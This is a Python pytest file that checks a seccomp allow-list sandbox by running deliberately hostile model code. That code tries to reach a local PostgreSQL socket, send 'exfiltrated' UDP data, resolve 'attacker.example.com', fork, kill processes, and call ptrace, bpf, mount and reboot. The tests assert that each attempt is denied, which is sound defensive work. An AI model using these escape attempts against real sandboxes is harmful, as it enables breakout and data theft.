"""The system-call filter of the model process (``handler/loading/seccomp.py``), attacked from a model.

Each test is a hostile ``eco.py`` that tries an escape; the test proves nothing left the sandbox
(a server that hears nothing, a file never written) and that the model learnt only EPERM.
"""

from __future__ import annotations

import os
import socket
import textwrap
import threading
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from handler.loading import SandboxLimits, load_model
from handler.loading.seccomp import Filter

FAST = SandboxLimits(wall_seconds=20)
MakeModel = Callable[[str], Path]

pytestmark = pytest.mark.skipif(Filter().policy is None, reason="libseccomp is not installed on this machine")


def attempts(model_dir: MakeModel, *calls: str, prelude: str = "") -> list[str]:
    """Run a model that tries each call; returns what each got (the exception name, or ``allowed``)."""
    body = "\n".join(f"    try_it(lambda: {call})" for call in calls)
    source = (
        "import ctypes, os, socket, sys\n" + textwrap.dedent(prelude) + "\nresults = []\n\n"
        "def try_it(fn):\n"
        "    try:\n"
        "        fn()\n"
        "        results.append('allowed')\n"
        "    except OSError as exc:\n"
        "        results.append(f'{type(exc).__name__}:{exc.errno}')\n\n"
        "def createEcosystem():\n" + body + "\n    raise RuntimeError('results=' + ','.join(results))\n"
    )
    result = load_model(model_dir(source), FAST)
    (finding,) = result.findings
    return finding.message.split("results=", 1)[1].split(" at ")[0].split(",")


@pytest.fixture
def unix_server(tmp_path: Path) -> Iterator[tuple[str, list[bytes]]]:
    """A Unix socket server outside the model folder (like a local PostgreSQL's) that records what it hears."""
    path = str(tmp_path / ".s.PGSQL.5432")
    heard: list[bytes] = []
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(path)
    server.listen()
    server.settimeout(0.2)
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except TimeoutError:
                continue
            heard.append(conn.recv(1024) or b"<connected>")
            conn.close()

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield path, heard
    stop.set()
    thread.join()
    server.close()


def test_a_local_unix_socket_cannot_be_reached(model_dir: MakeModel, unix_server: tuple[str, list[bytes]]) -> None:
    """The full escape: a local PostgreSQL's socket, reached by path, spoken to, COPY TO PROGRAM."""
    path, heard = unix_server
    results = attempts(
        model_dir,
        "connect_unix()",
        prelude=f"""
        def connect_unix():
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.connect({path!r})
            s.sendall(b"\\x00\\x00\\x00\\x08\\x04\\xd2\\x16\\x2f")  # the start of a PostgreSQL handshake
        """,
    )
    assert results == ["PermissionError:1"]
    assert heard == []


def test_no_udp_datagram_and_no_dns_query_leaves(model_dir: MakeModel) -> None:
    listener = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    listener.bind(("127.0.0.1", 0))
    listener.settimeout(0.5)
    port = listener.getsockname()[1]
    results = attempts(
        model_dir,
        f"socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'exfiltrated', ('127.0.0.1', {port}))",
        "socket.getaddrinfo('attacker.example.com', 53)",
        "socket.socketpair()",
        "socket.socket(socket.AF_NETLINK, socket.SOCK_RAW)",
        "socket.socket(socket.AF_INET6, socket.SOCK_STREAM)",
    )
    assert results[0] == "PermissionError:1"
    assert results[1] != "allowed"  # no socket to resolve with (gaierror)
    assert results[2:] == ["PermissionError:1"] * 3
    with pytest.raises(TimeoutError):
        listener.recvfrom(100)
    listener.close()


def test_no_new_process_and_no_leaving_the_session(model_dir: MakeModel) -> None:
    results = attempts(
        model_dir,
        "os.fork()",
        "os.posix_spawn('/bin/true', ['true'], {})",
        "os.execv('/bin/true', ['true'])",
        "os.setsid()",
        "os.setpgid(0, 0)",
        "os.kill(1, 0)",
        "os.kill(os.getppid(), 9)",
    )
    assert results == ["PermissionError:1"] * 7


def test_larger_kernel_surfaces_are_closed(model_dir: MakeModel) -> None:
    """io_uring, keyrings, userfaultfd, bpf, perf, mount, namespaces, personality, ptrace, memfd."""
    syscalls = {  # x86_64 numbers (the generic table's differ; see the skip below)
        "io_uring_setup": 425,
        "keyctl": 250,
        "add_key": 248,
        "userfaultfd": 323,
        "bpf": 321,
        "perf_event_open": 298,
        "mount": 165,
        "unshare": 272,
        "setns": 308,
        "personality": 135,
        "ptrace": 101,
        "process_vm_readv": 310,
        "memfd_create": 319,
        "init_module": 175,
        "reboot": 169,
    }
    if os.uname().machine != "x86_64":
        pytest.skip("the system call numbers in this test are x86_64's")
    calls = [f"raw({number})" for number in syscalls.values()]
    results = attempts(
        model_dir,
        *calls,
        prelude="""
        libc = ctypes.CDLL(None, use_errno=True)

        def raw(number):
            if libc.syscall(number, 0, 0, 0, 0, 0) == -1:
                raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        """,
    )
    assert dict(zip(syscalls, results, strict=True)) == dict.fromkeys(syscalls, "PermissionError:1")


def test_threads_clocks_files_and_randomness_still_work(model_dir: MakeModel) -> None:
    """What a legitimate model does is allowed: the filter is an allow-list of it."""
    source = textwrap.dedent(
        """\
        import datetime, decimal, hashlib, json, os, random, re, threading, time, uuid
        import eco_template

        def createEcosystem():
            out = []
            worker = threading.Thread(target=lambda: out.append(hashlib.sha256(b"x").hexdigest()))
            worker.start()
            worker.join()
            with open("scratch.json", "w") as f:
                json.dump({"t": time.time(), "d": str(datetime.date.today()), "u": str(uuid.uuid4())}, f)
            os.listdir(".")
            random.random()
            decimal.Decimal("1.10") + 1
            assert out and re.match("[0-9a-f]+", out[0])
            return eco_template.createEcosystem()
        """
    )
    folder = model_dir(source)
    (folder / "eco_template.py").write_text(
        (Path(__file__).resolve().parents[3] / "handler/model_repo_template/eco.py").read_text()
    )
    result = load_model(folder, FAST)
    assert result.findings == [] and result.ecosystem is not None
    assert result.sandbox["seccomp"].startswith("seccomp allow-list")
